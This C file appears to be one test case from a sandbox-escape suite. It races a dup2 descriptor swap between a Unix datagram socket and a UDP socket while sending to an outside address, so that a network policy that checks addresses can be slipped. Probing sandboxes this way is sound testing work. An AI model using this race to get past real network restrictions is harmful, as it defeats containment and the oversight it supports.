// escape: swaps the connected TCP socket, for which an address does not count, for a UDP socket
// group: descriptor tricks
// policy: network
// attempts: 20000
#include "escape.h"

enum { kNumber = 100 };
static int sockets[2];

static void* swap(void* unused) {
  unsigned seed = 1;
  for (int i = 0;; i = !i) {
    dup2(sockets[i], kNumber);
    moment(&seed);
  }
  return unused;
}

static void attack(void) {
  struct sockaddr_in to = stranger();
  int pair[2];
  if (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) < 0) broken("socketpair");
  sockets[0] = pair[0];
  sockets[1] = udp(AF_INET);
  dup2(sockets[0], kNumber);
  thread(swap, NULL);
  while (more()) {
    char got;
    sendto(kNumber, "x", 1, MSG_DONTWAIT, ADDRESS(to));
    recv(pair[1], &got, 1, MSG_DONTWAIT);
  }
}
